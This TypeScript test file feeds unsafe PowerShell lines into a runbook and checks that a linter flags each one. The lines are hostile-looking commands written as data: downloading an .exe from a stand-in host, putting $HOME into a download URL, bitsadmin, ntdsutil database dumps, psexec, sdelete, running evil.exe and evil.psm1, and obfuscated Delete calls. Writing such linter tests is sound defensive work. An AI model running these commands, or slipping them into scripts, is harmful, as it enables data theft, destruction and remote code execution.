import { ends } from './ends.ts';
import { lookedUp } from './looked-up.ts';
import { sentRemovals } from './sent-removals.ts';
import { uncheckedServers } from './unchecked-servers.ts';
import { weakenings } from './weakenings.ts';
import { folder, inFile, type Mutation } from './mutation.ts';

const file = `${folder}/commands/disable-push.ps1`;
const line = "    Write-Host 'Push is off again.'";

type Rows = readonly (readonly [text: string, found: string])[];

/** What Windows PowerShell 3.0 does not have. */
const newer: Rows = [
  ["'a' | Out-File $p -NoNewline -Encoding UTF8", 'the parameter `-NoNewline` of `Out-File`'],
  ['gci C:\\a -Dep 2', 'the parameter `-Dep` of `gci`'],
  ['Write-Verbose "$(Get-Date -AsUTC)"', 'the parameter `-AsUTC` of `Get-Date`'],
  ['Test-NetConnection a -Port 443', 'the cmdlet `Test-NetConnection`'],
];

/** Files that Windows runs, or may run. */
const runnable: Rows = [
  [
    'Copy-Item C:\\a\\b.ps1 "$env:TEMP\\b.ps1"',
    '`Copy-Item` of a file that may be run, expected a file that Windows does not run',
  ],
  ['Copy-Item C:\\a\\b.txt "$env:TEMP\\b.ps1"', '`Copy-Item` of a file that may be run'],
  ['Copy-Item C:\\a\\b.config C:\\c\\web.config -Force', '`Copy-Item`, which overwrites'],
  [
    'Copy-Item C:\\a.txt "$env:USERPROFILE\\Documents\\WindowsPowerShell\\profile.ps1"',
    '`Copy-Item` of a file',
  ],
  ['$b = Get-Content C:\\a.txt; Copy-Item C:\\c.txt "$env:TEMP\\$b"', '`Copy-Item` of a file'],
  [
    "foreach ($f in Get-ChildItem C:\\a -Filter '*.ps1') { Copy-Item $f.FullName $env:TEMP }",
    '`Copy-Item` of a file',
  ],
  [
    '(New-Object Net.WebClient).DownloadFile(\'https://x.example/a\', "$env:TEMP\\a.exe")',
    '`.DownloadFile()` of a file',
  ],
  [
    '(New-Object Net.WebClient).DownloadFile("https://x.example/$HOME", "$env:TEMP\\a.txt")',
    '`.DownloadFile()` with a text',
  ],
];

/** The same by .NET. */
const runnableByMethods: Rows = [
  ['[IO.File]::Copy(\'C:\\a.ps1\', "$env:TEMP\\a.ps1")', '`::Copy()` of a file'],
  ['[IO.File]::Copy("$env:TEMP\\a.txt", "$env:TEMP\\a.ps1")', '`::Copy()` that lets data be run'],
];

/** Patterns that are not constant, and streams into what may be run. */
const patterns: Rows = [
  ["$a = [regex]::Replace('a', '{{edgeFqdn}}', 'b')", '`[regex]` without'],
  ["$a = [regex]::Replace('a', 'b', $env:TEMP)", '`[regex]` without'],
  ["$x = Get-Content 'C:\\a'; $a = [regex]::IsMatch('a', $x)", '`[regex]` without'],
  ["$a = ([regex]'{{edgeFqdn}}').Match('a')", '`[regex]` without'],
  [
    `$a = 'a' -match "^$([regex]::Escape('{{edgeFqdn}}'))$"`,
    '`{{edgeFqdn}}` in a double-quoted string',
  ],
  ["$a = 'a' -match ('^' + '{{edgeFqdn}}' + '$')", '`-match` with a pattern'],
  ["$a = New-Object regex('{{edgeFqdn}}')", '`New-Object` of a type that runs code'],
  [
    "$a = Get-WinEvent -FilterHashtable @{ LogName = '{{edgeFqdn}}'; Level = 2 }",
    '`-FilterHashtable` with a text',
  ],
  [
    "$a = Get-WinEvent -FilterHashtable @{ LogName = 'a'; StartTime = (Get-Content 'C:\\a') }",
    '`-FilterHashtable` with a text',
  ],
  ['$w = New-Object IO.StreamWriter "$env:TEMP\\a.ps1"', '`New-Object` of a file that may be run'],
  ["$w = New-Object IO.StreamWriter 'C:\\a.txt'", '`New-Object`, which overwrites'],
  ["$w = New-Object IO.StreamWriter('C:\\a.txt')", '`New-Object`, which overwrites'],
];

/** Programs of which nobody knows what they change, behind which a check stands all the same. */
const programs: Rows = [
  ['mountvol C: /d', '`mountvol'],
  ['fsutil file setzerodata offset=0 length=10 C:\\a', '`fsutil'],
  ['sdelete C:\\a', '`sdelete'],
  ['dsmod user cn=a -disabled yes', '`dsmod'],
  ["ntdsutil 'ac i ntds' ifm q q", '`ntdsutil'],
  ["sqlcmd -Q 'drop table a'", '`sqlcmd'],
  ["Invoke-Sqlcmd -Query 'drop table a'", '`Invoke-Sqlcmd'],
  ['regedit /s C:\\a.reg', '`regedit'],
  ['ssh x rm a', '`ssh'],
  ['tar -xf C:\\a.tar -C C:\\', '`tar'],
  ['expand C:\\a.cab C:\\a', '`expand'],
  ['curl.exe -o C:\\a.txt https://a.example', '`curl.exe'],
  ['bitsadmin /transfer a https://a.example/a C:\\a.exe', '`bitsadmin'],
  ['C:\\evil.exe', '`C:\\evil.exe'],
  ["& 'C:\\Program Files\\a\\evil.exe' /x", "`'"],
  ['psexec \\\\a cmd', '`psexec'],
  ['& D:\\setup.exe /mode:Upgrade', '`D:\\setup.exe`, a program'],
].map(([text = '', found = '']) => [
  `${text}; if ($LASTEXITCODE -ne 0) { throw 'Push is off again.' }`,
  found,
]);

/** What hides what is called, or whose file it is. */
const hidden: Rows = [
  ["[System.IO.File]::('De'+'lete')('C:\\a.txt')", 'a method that a value names'],
  ["$m = 'Delete'; [IO.File]::$m('C:\\a.txt')", 'a method that a value names'],
  ["[IO.File]::('Delete')('C:\\a.txt')", 'a method that a value names'],
  ["$m = 'Stop'; (Get-Service W3SVC).$m()", 'a method that a value names'],
  ['Import-Module C:\\evil.psm1', '`Import-Module` of a file'],
  ['Import-Module .\\evil.psm1', '`Import-Module` of a file'],
  ['ipmo C:\\evil.psm1', '`ipmo` of a file'],
  ["$env:TEMP = 'C:\\Windows'", '`$env:TEMP` that leads'],
  ["$env:USERPROFILE = 'C:\\Windows'", '`$env:USERPROFILE` that leads'],
  ['ni C:\\a -f', '`ni`, which empties'],
  ['(Get-Item a).Create()', '`(Get-Item a).Create`, which empties'],
  ["(Get-Item C:\\a).Replace('C:\\b','C:\\c')", '`(Get-Item C:\\a).Replace`, which may move'],
  ["'x' -as '{{edgeFqdn}}'", '`-as` a type'],
  ["([type]'IO.File')::Delete('C:\\a.txt')", 'a type that runs'],
  ["(New-Object -ComObject Scripting.FileSystemObject).DeleteFile('C:\\a.txt')", '`-ComObject`'],
  [
    "$fso = New-Object -ComObject Scripting.FileSystemObject; $fso.DeleteFile('C:\\a.txt')",
    '`-ComObject`',
  ],
  [
    '& "$env:windir\\System32\\inetsrv\\appcmd.exe" delete site a; if ($LASTEXITCODE -ne 0) { throw \'x\' }',
    '`& "$env:windir',
  ],
  [
    "& 'C:\\Windows\\System32\\inetsrv\\appcmd.exe' delete site a; if ($LASTEXITCODE -ne 0) { throw 'x' }",
    "`'C:\\Windows\\System32",
  ],
];

/** Paths that PowerShell takes without quotes, and this check does not. */
const unquoted: Rows = [
  ['Copy-Item C:\\a.txt $HOME\\b.txt', 'the path `$HOME\\b.txt` without quotes'],
  ['Get-Service | Out-File $env:TEMP\\a.txt -Encoding UTF8', 'the path `$env:TEMP\\a.txt`'],
  ['$a = Test-Path $env:windir\\System32', 'the path `$env:windir\\System32`'],
  ['$d = $env:TEMP; Get-Item -Path $d\\b.csv', 'the path `$d\\b.csv`'],
];

/** Reasons that matter come first. */
const reasons: Rows = [
  ['Get‑CsPool a', '`‑` (U+2011)'],
  ['Remove-Item C:\\a', '`Remove-Item`, whose file no command'],
  [
    '$f = "$env:TEMP\\a$PID.txt"; Get-Service | Out-File $f -Append -Encoding UTF8; Remove-Item -LiteralPath $f',
    '`Remove-Item`, whose file no command',
  ],
  [
    '$f = "$env:TEMP\\a$PID.txt"; Remove-Item -LiteralPath $f; 1 > $f',
    '`Remove-Item`, whose file no command',
  ],
  [
    '1 | Out-File "$env:APPDATA\\s.txt" -Encoding UTF8; Remove-Item -LiteralPath "$env:APPDATA\\s.txt"',
    '`Out-File`, which overwrites',
  ],
  [
    "$f = 'C:\\a\\s.txt'; 1 | Out-File $f -Encoding UTF8; Remove-Item -LiteralPath $f",
    '`Out-File`, which overwrites',
  ],
  ['Remove-Item "$env:USERPROFILE\\ntuser.dat"', '`Remove-Item`, whose file no command'],
  ['$r = "$env:TEMP\\a.txt"; 1 > $r; Remove-Item $r', '`Remove-Item`, which may take wildcards'],
];

/** What a command does that no runbook may do, or that Windows PowerShell 3.0 cannot. */
export const deedMutations: readonly Mutation[] = inFile(
  file,
  [
    ...newer,
    ...runnable,
    ...runnableByMethods,
    ...patterns,
    ...programs,
    ...ends,
    ...hidden,
    ...lookedUp,
    ...sentRemovals,
    ...uncheckedServers,
    ...weakenings,
    ...unquoted,
    ...reasons,
  ].map(([text, found]) => [line, `    ${text}\n${line}`, found]),
);
